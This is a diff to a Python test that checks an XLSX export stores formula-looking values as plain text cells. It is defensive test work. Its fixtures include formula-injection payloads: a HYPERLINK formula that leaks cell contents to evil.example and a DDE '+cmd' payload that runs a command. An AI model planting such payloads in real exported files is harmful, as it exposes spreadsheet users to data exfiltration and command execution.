@@ -182,20 +182,22 @@ def test_csv_cells_that_would_be_formulas_are_neutralised(org_a):
     ]
 
 
-def test_xlsx_cells_that_would_be_formulas_are_neutralised_text(org_a):
+def test_xlsx_writes_formula_looking_text_as_text_cells_without_an_apostrophe(org_a):
+    # Excel never evaluates a text cell: the value itself is written, as text (the CSV,
+    # which has no cell types, keeps the apostrophe: above).
     _hostile(org_a)
     response = signed_in(org_a).get(XLSX)
     data = _content(response)
     workbook = openpyxl.load_workbook(io.BytesIO(data))  # not read-only: cell types are kept
     cells = next(workbook.active.iter_rows(min_row=2, max_row=2))
     assert [c.value for c in cells[:3]] == [
-        "'-1",
-        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
-        "'@evil.example",
+        "-1",
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "@evil.example",
     ]
     assert all(c.data_type == "s" for c in cells[:6] if c.value is not None)  # text, never a formula
-    assert cells[4].value == "'+cmd|' /C calc'!A0"
-    assert cells[5].value == "'\tPune"
+    assert cells[4].value == "+cmd|' /C calc'!A0"
+    assert cells[5].value == "\tPune"
     assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
 
 
